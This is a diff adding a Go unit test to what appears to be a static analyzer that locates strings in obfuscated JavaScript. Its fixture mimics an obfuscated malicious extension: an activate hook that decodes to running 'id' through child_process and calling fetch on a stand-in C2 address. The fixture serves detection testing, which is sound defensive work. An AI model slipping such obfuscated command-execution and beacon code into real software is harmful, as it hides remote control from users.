@@ -70,6 +70,24 @@ func TestIndirectWaysAreUses(t *testing.T) {
 	}
 }
 
+// A text that an obfuscator put into a list has its place where it is used; one that stays in a list has that.
+func TestATextsPlaceIsWhereItIsUsed(t *testing.T) {
+	p := analyze(t, files{"main.js": `function a(){const l=["https://c2.example/in","exec","log","error","child_process","id"];a=function(){return l};return a()}` +
+		`function b(i){i=i-7;return a()[i]}var _0x1a2b=1,_0x3c4d=2;` + "\n" +
+		`const kept=["https://one.example/","https://two.example/","x.y","z.y","v.w"];` + "\n" +
+		`exports.activate=()=>{console[b(9)](kept);console[b(10)](2);require(b(11))[b(8)](b(12));` + "\n" + `fetch(b(7))};`})
+	want := map[string]int{"https://c2.example/in": 4, "https://one.example/": 2}
+	for _, s := range p.Strings {
+		if line, ok := want[s.Text]; ok && s.Where.Line != line {
+			t.Errorf("%s is on line %d, want %d", s.Text, s.Where.Line, line)
+		}
+		delete(want, s.Text)
+	}
+	if len(want) > 0 {
+		t.Errorf("not there: %v", want)
+	}
+}
+
 // An obfuscated file is a blind spot that says so, and its strings are read; the
 // same code as it was written is none.
 func TestAnObfuscatedFileIsBlind(t *testing.T) {
